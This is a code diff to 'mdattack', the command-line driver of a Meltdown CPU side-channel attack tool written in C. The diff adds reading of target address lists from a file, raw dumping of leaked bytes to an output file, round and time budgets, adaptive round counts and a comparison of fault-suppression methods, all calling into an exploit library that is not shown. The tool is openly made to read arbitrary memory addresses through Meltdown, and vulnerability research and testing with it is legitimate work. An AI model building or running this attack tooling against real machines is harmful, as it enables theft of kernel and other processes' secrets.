@@ -32,6 +32,7 @@
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
+#include <string.h>
 #include <unistd.h>
 
 #include "meltdown.h"
@@ -57,11 +58,112 @@ static unsigned int atk_rounds;
 #define DFLT_ATK_LEN	16
 #define DFLT_ATK_ROUNDS	3
 
+/*
+ * Total budget in rounds or seconds, if any
+ */
+static uint64_t atk_maxrounds;
+static double atk_maxtime;
+
+/*
+ * Raw output file, if any
+ */
+static const char *atk_outfile;
+static FILE *atk_out;
+#define ATK_OUTBUF	(1024 * 1024)
+
+/*
+ * Result store, if any
+ */
+static const char *atk_store;
+
 /*
  * Self-test
  */
 static uint8_t selftest[4096];
 
+/*
+ * List of targets to read in one batch
+ */
+static const char *atk_file;
+static struct meltdown_iov *atk_iov;
+static unsigned int atk_iovcnt;
+
+/*
+ * Read a list of targets from a file, or from stdin if the file name is
+ * "-".  Each line contains an address in hexadecimal and a length.
+ * Blank lines and lines starting with # are ignored.  If base is not
+ * NULL, the addresses are offsets from base, and each target must lie
+ * within the first max bytes.
+ */
+static void
+read_targets(const char *path, uint8_t *base, size_t max)
+{
+	struct meltdown_iov *iov;
+	unsigned long long addr, len;
+	char *line, *p, *end;
+	size_t size;
+	unsigned int lineno, n;
+	FILE *f;
+
+	if (strcmp(path, "-") == 0)
+		f = stdin;
+	else if ((f = fopen(path, "r")) == NULL)
+		err(1, "%s", path);
+	line = NULL;
+	size = 0;
+	lineno = 0;
+	while (getline(&line, &size, f) >= 0) {
+		lineno++;
+		for (p = line; is_lws(*p); ++p)
+			/* nothing */ ;
+		if (*p == '\0' || *p == '\n' || *p == '#')
+			continue;
+		addr = strtoull(p, &end, 16);
+		if (end == p || !is_lws(*end))
+			errx(1, "%s:%u: invalid address", path, lineno);
+		p = end;
+		len = strtoull(p, &end, 0);
+		if (end == p || (*end != '\0' && !is_ws(*end)))
+			errx(1, "%s:%u: invalid length", path, lineno);
+		if (len == 0 || (size_t)len != len)
+			errx(1, "%s:%u: length is out of range", path, lineno);
+		if (base != NULL && (addr > max || len > max - addr))
+			errx(1, "%s:%u: target is out of range", path, lineno);
+		if (base == NULL && (uintptr_t)addr != addr)
+			errx(1, "%s:%u: address is out of range", path, lineno);
+		n = atk_iovcnt + 1;
+		if ((iov = realloc(atk_iov, n * sizeof *iov)) == NULL)
+			err(1, "realloc()");
+		atk_iov = iov;
+		memset(&iov[atk_iovcnt], 0, sizeof *iov);
+		iov[atk_iovcnt].target = base != NULL ? base + addr :
+		    (const void *)(uintptr_t)addr;
+		iov[atk_iovcnt].len = len;
+		atk_iovcnt = n;
+	}
+	if (ferror(f))
+		err(1, "%s", path);
+	free(line);
+	if (f != stdin)
+		fclose(f);
+	if (atk_iovcnt == 0)
+		errx(1, "%s: no targets", path);
+}
+
+/*
+ * Write raw binary output as it comes in.  The stream is fully buffered
+ * with a large buffer, so the many small chunks we are handed turn into
+ * a few large writes.
+ */
+static void
+output_raw(size_t base, const void *buf, size_t len)
+{
+
+	(void)base;
+	if (fwrite(buf, 1, len, atk_out) != len)
+		err(1, "%s", atk_outfile);
+}
+
 /*
  * Print usage string and exit.
  */
@@ -69,19 +171,25 @@ static void
 usage(void)
 {
 
-	fprintf(stderr, "usage: mdattack [-v] [-a addr | -s] [-l len] [-n rounds]\n");
+	fprintf(stderr, "usage: mdattack [-v] " MELTDOWN_USAGE
+	    " [-a addr | -s] [-B rounds] [-f file | -l len]\n"
+	    "    [-n [min:]rounds] [-o file | -r file] [-T seconds]\n");
 	exit(1);
 }
 
 int
 main(int argc, char *argv[])
 {
+	struct meltdown_byte *hist;
+	struct resstore *rs;
 	char *end;
 	uintmax_t umax;
+	size_t j;
 	unsigned int i;
 	int opt;
 
-	while ((opt = getopt(argc, argv, "a:l:n:sv")) != -1)
+	while ((opt = getopt(argc, argv,
+	    "a:B:f:l:n:o:r:sT:v" MELTDOWN_OPTS)) != -1)
 		switch (opt) {
 		case 'a':
 			if (atk_addr != 0)
@@ -93,6 +201,21 @@ main(int argc, char *argv[])
 			if ((uintmax_t)atk_addr != umax)
 				errx(1, "address is out of range");
 			break;
+		case 'B':
+			if (atk_maxrounds != 0)
+				usage();
+			umax = strtoull(optarg, &end, 0);
+			if (end == optarg || *end != '\0')
+				errx(1, "invalid round budget");
+			atk_maxrounds = umax;
+			if (atk_maxrounds == 0 || atk_maxrounds != umax)
+				errx(1, "round budget is out of range");
+			break;
+		case 'f':
+			if (atk_file != NULL)
+				usage();
+			atk_file = optarg;
+			break;
 		case 'l':
 			if (atk_len != 0)
 				usage();
@@ -107,22 +230,52 @@ main(int argc, char *argv[])
 			if (atk_rounds != 0)
 				usage();
 			umax = strtoull(optarg, &end, 0);
+			if (end != optarg && *end == ':') {
+				/* adaptive mode */
+				meltdown_minrounds = umax;
+				if (meltdown_minrounds == 0 ||
+				    (uintmax_t)meltdown_minrounds != umax)
+					errx(1, "round count is out of range");
+				optarg = end + 1;
+				umax = strtoull(optarg, &end, 0);
+			}
 			if (end == optarg || *end != '\0')
 				errx(1, "invalid round count");
 			atk_rounds = umax;
-			if (atk_rounds == 0 || (uintmax_t)atk_rounds != umax)
+			if (atk_rounds == 0 || (uintmax_t)atk_rounds != umax ||
+			    atk_rounds < meltdown_minrounds)
 				errx(1, "round count is out of range");
 			break;
+		case 'o':
+			if (atk_outfile != NULL)
+				usage();
+			atk_outfile = optarg;
+			break;
+		case 'r':
+			if (atk_store != NULL)
+				usage();
+			atk_store = optarg;
+			break;
 		case 's':
 			if (atk_addr != 0)
 				usage();
 			atk_addr = selftest;
 			break;
+		case 'T':
+			if (atk_maxtime != 0)
+				usage();
+			atk_maxtime = strtod(optarg, &end);
+			if (end == optarg || *end != '\0')
+				errx(1, "invalid time budget");
+			if (!(atk_maxtime > 0))
+				errx(1, "time budget is out of range");
+			break;
 		case 'v':
 			verbose++;
 			break;
 		default:
-			usage();
+			if (meltdown_option(opt, optarg) != 0)
+				usage();
 		}
 
 	argc -= optind;
@@ -130,6 +283,14 @@ main(int argc, char *argv[])
 
 	if (argc)
 		usage();
+	if (atk_file != NULL && (atk_len != 0 || (atk_addr != 0 &&
+	    atk_addr != selftest)))
+		usage();
+	if (atk_file != NULL && (atk_maxrounds != 0 || atk_maxtime != 0))
+		usage();
+	if (atk_store != NULL && (atk_file != NULL || atk_outfile != NULL ||
+	    atk_maxrounds != 0 || atk_maxtime != 0))
+		usage();
 
 	/* default address and length */
 	if (atk_addr == 0)
@@ -147,14 +308,65 @@ main(int argc, char *argv[])
 			atk_len = sizeof selftest;
 	}
 
+	/* read the list of targets; with -s, they are self-test offsets */
+	if (atk_file != NULL) {
+		read_targets(atk_file, atk_addr == selftest ? selftest : NULL,
+		    sizeof selftest);
+		atk_addr = (uint8_t *)atk_iov[0].target;
+	}
+
+	/* open the output file; "-" means raw output to stdout */
+	if (atk_outfile != NULL) {
+		if (strcmp(atk_outfile, "-") == 0)
+			atk_out = stdout;
+		else if ((atk_out = fopen(atk_outfile, "w")) == NULL)
+			err(1, "%s", atk_outfile);
+		if (setvbuf(atk_out, NULL, _IOFBF, ATK_OUTBUF) != 0)
+			err(1, "setvbuf()");
+		meltdown_output = output_raw;
+	}
+
 	/* create the probe array and ensure that it is paged in */
 	meltdown_init();
 
 	/* calibrate our timer */
 	meltdown_calibrate();
 
+	/* compare fault suppression methods */
+	if (verbose)
+		meltdown_compare(atk_addr);
+
 	/* perform the attack */
-	meltdown_attack(atk_addr, NULL, atk_len, atk_rounds);
+	if (atk_iov != NULL) {
+		meltdown_attack_v(atk_iov, atk_iovcnt, atk_rounds);
+	} else if (atk_store != NULL) {
+		/* self-test addresses vary from run to run, so use 0 */
+		rs = resstore_open(atk_store, atk_addr == selftest ? 0 :
+		    (uintptr_t)atk_addr, atk_len);
+		resstore_attack(rs, atk_addr, atk_rounds);
+		resstore_close(rs);
+	} else if (atk_maxrounds != 0 || atk_maxtime != 0) {
+		/* spend the budget, then list any bytes still in doubt */
+		if ((hist = calloc(atk_len, sizeof *hist)) == NULL)
+			err(1, "calloc()");
+		meltdown_schedule(atk_addr, NULL, hist, atk_len, atk_rounds,
+		    atk_maxrounds, atk_maxtime);
+		for (j = 0; j < atk_len; ++j)
+			if (!(hist[j].conf > 1.0))
+				VERBOSEF("%p: %02x or %02x (%.2f)\n",
+				    (void *)&atk_addr[j], hist[j].value[0],
+				    hist[j].value[1], hist[j].conf);
+		free(hist);
+	} else {
+		meltdown_attack(atk_addr, NULL, NULL, atk_len, atk_rounds);
+	}
+	if (atk_out != NULL && fflush(atk_out) != 0)
+		err(1, "%s", atk_outfile);
+
+#ifdef MELTDOWN_STATS
+	/* print instrumentation counters */
+	meltdown_stats();
+#endif
 
 	exit(0);
 }